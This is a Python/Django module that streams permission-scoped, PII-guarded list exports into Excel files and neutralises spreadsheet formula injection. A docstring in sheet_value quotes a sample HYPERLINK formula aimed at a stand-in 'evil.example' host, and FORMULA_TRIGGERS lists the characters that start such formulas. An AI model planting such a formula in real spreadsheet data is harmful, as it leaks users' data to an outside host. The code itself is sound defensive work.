"""Excel export of any list a user can see: scoped, masked, streamed with constant memory.

Each app registers its lists (`register(Export(...))` in AppConfig.ready()). An export runs the same
selector and FilterSet as the list page, as the same user, so it holds exactly what the page holds.
Columns read `values_list()` paths (no model objects), rows stream through openpyxl's write-only
workbook. Small exports answer at once; large ones (over SYNC_LIMIT rows) run as a Celery job with
progress and a download link.
"""
from __future__ import annotations

import os
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from django.conf import settings
from django.core.exceptions import ValidationError
from django.utils import timezone
from django.utils.translation import gettext as _

SYNC_LIMIT = 5_000
CHUNK = 2_000
PROGRESS_SECONDS = 2.0  # a running export reports progress (its heartbeat) at least this often
# A cell whose text starts with one of these is a formula to Excel, LibreOffice or WPS (or becomes one
# when someone edits the cell): user text starting with them is written as a text cell, quote-prefixed.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@dataclass(frozen=True)
class Column:
    header: str  # Chinese header (lazy translation is fine)
    path: str  # values_list path; never a cipher field
    display: Callable | dict | None = None  # value -> shown value (a choices dict, or a function)
    width: int = 14
    expression: Callable | None = None  # () -> an expression annotated under `path` (a set-based derived column)


@dataclass(frozen=True)
class Export:
    key: str
    title: str
    selector: Callable  # (*, user) -> restricted queryset
    columns: tuple[Column, ...]
    filterset_class: type | None = None
    roles: frozenset[str] = field(default_factory=frozenset)  # who sees the export button (empty: all)

    def queryset(self, *, user, params: dict):
        qs = self.selector(user=user)
        if self.filterset_class is not None and params:
            fs = self.filterset_class(params, queryset=qs)
            if not fs.is_valid():  # never fall back to the unfiltered list: say what is wrong, write nothing
                raise ValidationError([
                    _("筛选条件“%(f)s”无效：%(m)s") % {"f": fs.form.fields[name].label if name in fs.form.fields else name,
                                                 "m": " ".join(messages)}
                    for name, messages in fs.errors.items()
                ])
            qs = fs.qs
        return qs.order_by("pk")


_registry: dict[str, Export] = {}


def register(export: Export) -> None:
    for column in export.columns:
        if "cipher" in column.path or column.path.endswith("_hash"):
            raise ValueError(f"export {export.key}: column {column.path} would leak personal data")
    _registry[export.key] = export


def get(key: str) -> Export | None:
    return _registry.get(key)


def all_exports() -> list[Export]:
    return list(_registry.values())


def _shown(column: Column, value):
    if value is None:
        return ""
    if isinstance(column.display, dict):
        return str(column.display.get(value, value))
    if callable(column.display):
        return column.display(value)
    if hasattr(value, "tzinfo") and value.tzinfo is not None:
        return timezone.localtime(value).replace(tzinfo=None)
    return value


def sheet_value(ws, value):
    """What to put in a sheet row for `value`. Text is always a text cell: openpyxl writes a string that
    starts with "=" as a live formula (a resident's name `=HYPERLINK("http://evil.example/?"&B3,"…")`
    would send the next columns off the machine); the other triggers become formulas on the first edit.
    Every .xlsx the portal writes (exports, import templates) goes through here."""
    if not isinstance(value, str):
        return value
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    value = ILLEGAL_CHARACTERS_RE.sub("", value)  # control characters openpyxl refuses (the export would fail)
    if not value.startswith(FORMULA_TRIGGERS):
        return value
    cell = WriteOnlyCell(ws, value=value)
    cell.data_type = "s"  # after assigning: the value setter guessed "f"
    cell.quotePrefix = True  # Excel keeps it text when the cell is edited
    return cell


def _create_private(path: Path) -> None:
    """An empty file only the portal's user can read (exports hold names and addresses)."""
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o600))


def write_xlsx(export: Export, queryset, path: Path, progress: Callable[[int], None] | None = None) -> int:
    """Stream `queryset` into an .xlsx at `path`; returns the number of rows written.

    The file appears at `path` only when it is complete (written under a ".part" name beside it, then
    renamed); a worker killed half-way leaves only ".part" files, which the sweeper removes. openpyxl's
    own scratch file for the sheet is kept beside it too (not in /tmp, where nothing would remove it)."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter
    from openpyxl.worksheet._writer import ALL_TEMP_FILES, WorksheetWriter

    part, sheet_part = partial_paths(path)
    ws = None
    try:
        wb = Workbook(write_only=True)
        ws = wb.create_sheet(str(export.title)[:31])
        for i, column in enumerate(export.columns, start=1):
            ws.column_dimensions[get_column_letter(i)].width = column.width
        _create_private(sheet_part)
        ALL_TEMP_FILES.append(str(sheet_part))  # openpyxl removes it from this list once written into the zip
        ws._writer = WorksheetWriter(ws, out=str(sheet_part))  # what ws._get_writer() does, with our path
        ws._writer.write_top()
        bold = Font(bold=True)
        header = []
        for column in export.columns:
            cell = WriteOnlyCell(ws, value=str(column.header))
            cell.font = bold
            header.append(cell)
        ws.append(header)
        paths = [c.path for c in export.columns]
        derived = {c.path: c.expression() for c in export.columns if c.expression is not None}
        if derived:
            queryset = queryset.annotate(**derived)
        delay = float(os.environ.get("EXPORT_TEST_ROW_DELAY") or 0)  # test-only: a slow export to kill mid-run
        n = 0
        last = time.monotonic()
        for row in queryset.values_list(*paths).iterator(chunk_size=CHUNK):
            ws.append([sheet_value(ws, _shown(c, v)) for c, v in zip(export.columns, row)])
            n += 1
            if delay:
                time.sleep(delay)
            if progress is not None and (n % CHUNK == 0 or time.monotonic() - last >= PROGRESS_SECONDS):
                progress(n)
                last = time.monotonic()
        _create_private(part)
        wb.save(str(part))
        os.replace(part, path)
    except BaseException:
        _abandon(ws)
        raise
    finally:
        part.unlink(missing_ok=True)
        sheet_part.unlink(missing_ok=True)
        if str(sheet_part) in ALL_TEMP_FILES:
            ALL_TEMP_FILES.remove(str(sheet_part))
    return n


def _abandon(ws) -> None:
    """Close openpyxl's half-written sheet (its generators hold the scratch file open) before deleting it."""
    for gen in (getattr(ws, "_rows", None), getattr(getattr(ws, "_writer", None), "xf", None)):
        try:
            if gen is not None:
                gen.close()
        except Exception:  # it is being thrown away
            pass


def partial_paths(path: Path) -> tuple[Path, Path]:
    """The half-written files of the export at `path`: the workbook and openpyxl's sheet scratch file."""
    return path.with_name(path.name + ".part"), path.with_name(path.name + ".sheet.part")


def export_dir() -> Path:
    path = Path(settings.VAR_DIR) / "exports"
    path.mkdir(mode=0o700, parents=True, exist_ok=True)
    return path


def temp_xlsx() -> Path:
    """A fresh name in the export directory for a file answered at once (the caller deletes it)."""
    return export_dir() / f"sync-{uuid.uuid4().hex}.xlsx"


def job_xlsx(job_id: int) -> Path:
    """Where an export job's file lives; the same name on every attempt, so a rerun replaces it."""
    return export_dir() / f"export-{job_id}.xlsx"


def retention_days() -> int:
    return int(getattr(settings, "EXPORT_RETENTION_DAYS", 7))


def masked_params(params: dict) -> dict:
    """The filters as stored for people to read (the job page, the audit log): no ID or phone number."""
    from . import pii

    return {str(k): pii.scrub(str(v)) for k, v in params.items()}


def seal_params(params: dict) -> str:
    """The filters unmasked (a search by full ID number must still find its resident), encrypted for the worker."""
    import json

    from . import pii

    return pii.encrypt(json.dumps(params, ensure_ascii=False)) if params else ""


def unseal_params(job) -> dict:
    import json

    from . import pii

    return json.loads(pii.decrypt(job.sealed_params) or "{}") if job.sealed_params else dict(job.params)
